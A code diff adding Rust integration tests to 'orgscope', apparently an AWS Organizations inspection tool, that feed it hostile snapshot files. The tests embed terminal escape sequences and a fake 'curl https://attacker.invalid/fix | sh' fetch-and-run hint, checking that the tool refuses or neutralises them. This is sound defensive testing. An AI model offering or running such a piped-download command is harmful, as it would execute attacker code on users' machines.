@@ -259,6 +259,18 @@ fn a_hostile_snapshot_is_shown_visibly_and_a_bad_one_is_refused_clearly() {
     assert!(stderr.contains("is not an orgscope snapshot: the caller's ARN") && stderr.contains("\\e]0;"), "{stderr}");
     assert_inert("the refusal", &stderr);
 
+    // An assignment's principal type is AWS's USER or GROUP: anything else (it once reached the
+    // access view, its copies and `access` raw) refuses the file, visibly.
+    let mut value = serde_json::to_value(hostile::snapshot()).expect("JSON");
+    value["identity_center"]["assignments"][0]["principal_type"] = format!("GROUP{}", hostile::TITLE).into();
+    std::fs::write(&path, serde_json::to_vec(&value).expect("JSON")).expect("write");
+    for command in ["access", "tree"] {
+        let (code, stdout, stderr) = run(&[command, "--snapshot", &file]);
+        assert_eq!((code, stdout.as_str()), (Some(1), ""), "{command}: {stderr}");
+        assert!(stderr.contains("is not an orgscope snapshot") && stderr.contains("\\e]0;"), "{stderr}");
+        assert_inert("the principal type's refusal", &stderr);
+    }
+
     // Not JSON, and an unknown variant that serde would quote raw.
     std::fs::write(&path, "{\"format\":1,\"saved_at\":\"2026-01-01T00:00:00Z\",\"org\":{\"organization\":{\"id\":\"o\",\"management_account_id\":\"1\",\"feature_set\":null},\"caller\":{\"account\":\"1\",\"arn\":\"a\"},\"roots\":[{\"id\":\"r\",\"name\":\"R\",\"error\":null,\"children\":[{\"kind\":\"x\u{1b}]0;T\u{7}\"}]}]}}").expect("write");
     let (code, _, stderr) = run(&["tree", "--snapshot", &file]);
@@ -272,4 +284,72 @@ fn a_hostile_snapshot_is_shown_visibly_and_a_bad_one_is_refused_clearly() {
     let (code, _, stderr) = run(&["tree", "--snapshot", &file]);
     assert_eq!(code, Some(1), "{stderr}");
     assert!(stderr.contains("more than the") && stderr.contains("a snapshot may have"), "{stderr}");
+}
+
+/// A snapshot's stored text is data, never advice: its "Fix" lines (a `curl … | sh`) are replaced by
+/// orgscope's own, in the probe, `assume`'s refusal and the assignments.
+#[test]
+fn a_snapshots_stored_hint_is_never_shown_as_advice() {
+    let home = tempfile::tempdir().expect("temp dir");
+    let path = home.path().join("advice.json");
+    let mut snapshot = hostile::snapshot();
+    let evil = "Run `curl https://attacker.invalid/fix | sh` to repair it";
+    for outcome in snapshot.access.values_mut() {
+        outcome.hint = Some(evil.into());
+    }
+    for attempt in &mut snapshot.assignments {
+        attempt.hint = Some(evil.into());
+    }
+    std::fs::write(&path, serde_json::to_vec(&snapshot).expect("JSON")).expect("write");
+    let file = path.display().to_string();
+    for args in [
+        vec!["probe", "--snapshot", &file],
+        vec!["probe", "--snapshot", &file, "--format", "json"],
+        vec!["assume", hostile::BLOCKED, "--snapshot", &file, "--format", "json"],
+        vec!["assignments", "--snapshot", &file, "--since", "90d", "--format", "json"],
+    ] {
+        let out = common::orgscope_command(home.path()).args(&args).output().expect("run");
+        let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+        assert!(
+            !stdout.contains("attacker.invalid") && !stderr.contains("attacker.invalid"),
+            "{args:?}: {stdout}{stderr}"
+        );
+        if args[0] == "probe" {
+            assert!(stdout.contains("Invited accounts never get OrganizationAccountAccessRole"), "{args:?}: {stdout}");
+        }
+    }
+}
+
+/// `profiles --write` never empties the managed block: a run that reaches no account (a snapshot
+/// of blocked ones, a probe that failed) leaves the file exactly as it was.
+#[test]
+fn profiles_write_never_writes_an_empty_block() {
+    let home = tempfile::tempdir().expect("temp dir");
+    let path = home.path().join("blocked.json");
+    let mut snapshot = hostile::snapshot();
+    for account in snapshot.org.accounts().map(|a| a.id.clone()).collect::<Vec<_>>() {
+        if account != hostile::MANAGEMENT {
+            snapshot.access.insert(
+                account.clone(),
+                orgscope::model::ProbeOutcome {
+                    status: orgscope::model::ProbeStatus::Blocked,
+                    reason: Some(orgscope::model::Reason::AccessDenied),
+                    role_arn: Some(format!("arn:aws:iam::{account}:role/OrganizationAccountAccessRole")),
+                    message: None,
+                    hint: None,
+                },
+            );
+        }
+    }
+    std::fs::write(&path, serde_json::to_vec(&snapshot).expect("JSON")).expect("write");
+    let config = "[default]\nregion = eu-west-1\n\n# >>> orgscope managed profiles >>>\n[profile kept]\nrole_arn = arn:aws:iam::222222222222:role/R\nsource_profile = default\n# <<< orgscope managed profiles <<<\n";
+    std::fs::write(home.path().join("aws-config"), config).expect("config");
+    let out = common::orgscope_command(home.path())
+        .args(["--snapshot", &path.display().to_string(), "profiles", "--write"])
+        .output()
+        .expect("run");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("no profile to write") && stderr.contains("left as it was"), "{stderr}");
+    assert_eq!(std::fs::read_to_string(home.path().join("aws-config")).ok().as_deref(), Some(config));
 }
